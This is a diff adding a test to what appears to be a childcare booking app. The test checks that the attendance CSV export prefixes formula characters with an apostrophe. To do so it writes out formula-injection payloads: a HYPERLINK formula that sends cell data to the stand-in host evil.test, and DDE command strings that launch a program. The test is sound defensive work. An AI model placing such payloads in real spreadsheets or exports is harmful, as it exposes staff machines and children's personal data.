@@ -193,3 +193,25 @@ def test_attendance_is_for_staff_only(client, auth):
     auth.login()
     for path in ("/agent/presences", "/agent/presences.pdf", "/agent/presences.csv"):
         assert client.get(path).status_code == 403
+
+
+def test_attendance_csv_never_hands_a_formula_to_the_spreadsheet(client, auth, db):
+    """Names, allergies and notes a parent typed are written as text: =, +, - and @ get an apostrophe."""
+    est, period, units = lutins(db)
+    booking = accepted_booking(db)
+    lea = kid(db, "Léa")
+    lea.last_name = '=HYPERLINK("http://evil.test/?"&A1;"Voir")'
+    lea.allergies = "+cmd|' /C calc'!A0"
+    lea.medical_notes = "@SUM(1+1)*cmd|' /C calc'!A0"
+    lea.pickup_persons = "  -2+3"
+    db.add(lea)
+    db.commit()
+    auth.login("agent@demo.test")
+    response = client.get(f"/agent/presences.csv?etablissement={est.id}&jour={booking.day.isoformat()}")
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+    row = next(r for r in rows[1:] if r[3] == "Léa")
+    assert row[2] == "'" + lea.last_name
+    assert row[8] == "'" + lea.allergies
+    assert row[10] == "'" + lea.medical_notes
+    assert row[11] == "'  -2+3"
+    assert all(not value.lstrip().startswith(("=", "+", "-", "@")) for r in rows for value in r)
